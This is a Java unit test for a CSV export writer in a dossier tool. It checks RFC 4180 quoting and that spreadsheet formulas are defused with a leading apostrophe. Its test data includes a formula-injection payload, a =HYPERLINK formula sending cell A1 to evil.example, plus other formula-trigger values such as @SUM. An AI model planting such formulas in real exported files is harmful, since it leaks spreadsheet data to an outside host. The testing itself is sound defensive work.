package org.opendossier.export.dossier;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.opendossier.model.Dossier;
import org.opendossier.model.DossierBlock;
import org.opendossier.model.SourceSummary;
import org.opendossier.model.TextSpan;

/** {@code sources.csv}: RFC 4180 quoting, formulas defused, read back with a strict parser. */
class SourcesCsvWriterTest {
    private static final String HYPERLINK = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Open\")";

    private static SourceSummary source(long id, String outlet, String title, String url) {
        return new SourceSummary(
                id,
                title,
                outlet,
                "2025-03-0" + id,
                url,
                "text/html",
                String.valueOf(id).repeat(64),
                "en",
                Instant.parse("2025-04-01T09:30:00Z"));
    }

    private static final SourceSummary HOSTILE =
            source(1, "Post, Daily", "He said \"no\",\nthen \"yes\"\r\nand left", HYPERLINK);
    private static final SourceSummary FORMULAS = source(2, "+Plus Media", "-1 dead", "@SUM(A1:A9)");
    private static final SourceSummary PLAIN = source(3, "Wire", "Plain title", "https://wire.example/a");

    private static Citations citations() {
        CitedQuote first = new CitedQuote("one", HOSTILE, new TextSpan(0, 3), 1, "");
        CitedQuote second = new CitedQuote("two", FORMULAS, new TextSpan(0, 3), 1, "");
        CitedQuote third = new CitedQuote("three", HOSTILE, new TextSpan(10, 15), 1, "");
        CitedQuote fourth = new CitedQuote("four", PLAIN, new TextSpan(0, 4), 1, "");
        List<DossierDocument.Part> parts = List.of(
                new DossierDocument.Excerpt(first),
                new DossierDocument.Excerpt(second),
                new DossierDocument.Excerpt(third),
                new DossierDocument.Excerpt(fourth));
        List<DossierBlock> blocks = new ArrayList<>();
        parts.forEach(p -> blocks.add(new DossierBlock.SourceExcerpt(1, new TextSpan(0, 1))));
        return Citations.of(
                new DossierDocument(new Dossier(1, "Sources", "", "", LocalDate.of(2025, 5, 2), "", blocks), parts));
    }

    private static String csv(Map<Long, String> bylines) throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        new SourcesCsvWriter().write(citations(), bylines, out);
        return out.toString(StandardCharsets.UTF_8);
    }

    @Test
    void hostileFieldsAreQuotedAndFormulasDefusedAndEveryValueReadsBack() throws Exception {
        String csv = csv(Map.of(1L, "Ana \"Ax\" Ortiz,\tBen Cole", 2L, "\tTabbed", 3L, "\rReturn"));

        assertThat(csv)
                .startsWith(String.join(",", SourcesCsvWriter.COLUMNS) + "\r\n")
                .endsWith("\r\n");
        List<List<String>> rows = Rfc4180.parse(csv);
        assertThat(rows).hasSize(4).allSatisfy(r -> assertThat(r).hasSize(10));
        assertThat(rows.get(0)).isEqualTo(SourcesCsvWriter.COLUMNS);

        List<String> hostile = rows.get(1);
        assertThat(hostile.subList(0, 5))
                .containsExactly(
                        "1 3",
                        "1",
                        "Post, Daily",
                        "He said \"no\",\nthen \"yes\"\r\nand left",
                        "Ana \"Ax\" Ortiz,\tBen Cole");
        assertThat(hostile.get(6)).isEqualTo("'" + HYPERLINK);
        assertThat(hostile.subList(7, 10)).containsExactly("2025-04-01T09:30:00Z", "text/html", "1".repeat(64));

        assertThat(rows.get(2).subList(0, 7))
                .containsExactly("2", "2", "'+Plus Media", "'-1 dead", "'\tTabbed", "2025-03-02", "'@SUM(A1:A9)");
        assertThat(rows.get(3).subList(0, 7))
                .containsExactly("4", "3", "Wire", "Plain title", "'\rReturn", "2025-03-03", "https://wire.example/a");
    }

    @Test
    void fieldsAreQuotedOnlyWhenRfc4180NeedsIt() {
        assertThat(SourcesCsvWriter.field("plain text")).isEqualTo("plain text");
        assertThat(SourcesCsvWriter.field("")).isEmpty();
        assertThat(SourcesCsvWriter.field("a,b")).isEqualTo("\"a,b\"");
        assertThat(SourcesCsvWriter.field("say \"hi\"")).isEqualTo("\"say \"\"hi\"\"\"");
        assertThat(SourcesCsvWriter.field("two\nlines")).isEqualTo("\"two\nlines\"");
        assertThat(SourcesCsvWriter.field(HYPERLINK))
                .isEqualTo("\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A1,\"\"Open\"\")\"");
        assertThat(SourcesCsvWriter.field("a = b - c")).isEqualTo("a = b - c");
    }

    @Test
    void aSourceWithoutBylineOrUrlHasEmptyCells() throws Exception {
        List<List<String>> rows = Rfc4180.parse(csv(Map.of()));

        assertThat(rows.get(3).get(4)).isEmpty();
        assertThat(rows.get(1).get(4)).isEmpty();
    }

    /** A strict RFC 4180 reader: CRLF row ends, quoted fields with doubled quotes, anything else refused. */
    private static final class Rfc4180 {
        static List<List<String>> parse(String text) {
            List<List<String>> rows = new ArrayList<>();
            List<String> row = new ArrayList<>();
            StringBuilder field = new StringBuilder();
            int i = 0;
            while (i < text.length()) {
                if (text.charAt(i) == '"') {
                    i++;
                    while (true) {
                        char c = text.charAt(i);
                        if (c == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
                            field.append('"');
                            i += 2;
                        } else if (c == '"') {
                            i++;
                            break;
                        } else {
                            field.append(c);
                            i++;
                        }
                    }
                } else {
                    while (i < text.length() && text.charAt(i) != ',' && text.charAt(i) != '\r') {
                        char c = text.charAt(i);
                        if (c == '"' || c == '\n') {
                            throw new IllegalArgumentException("unquoted " + (int) c + " at " + i);
                        }
                        field.append(c);
                        i++;
                    }
                }
                row.add(field.toString());
                field.setLength(0);
                if (text.startsWith(",", i)) {
                    i++;
                } else if (text.startsWith("\r\n", i)) {
                    rows.add(row);
                    row = new ArrayList<>();
                    i += 2;
                } else {
                    throw new IllegalArgumentException("expected , or CRLF at " + i);
                }
            }
            if (!row.isEmpty()) {
                throw new IllegalArgumentException("the last row does not end in CRLF");
            }
            return rows;
        }
    }
}
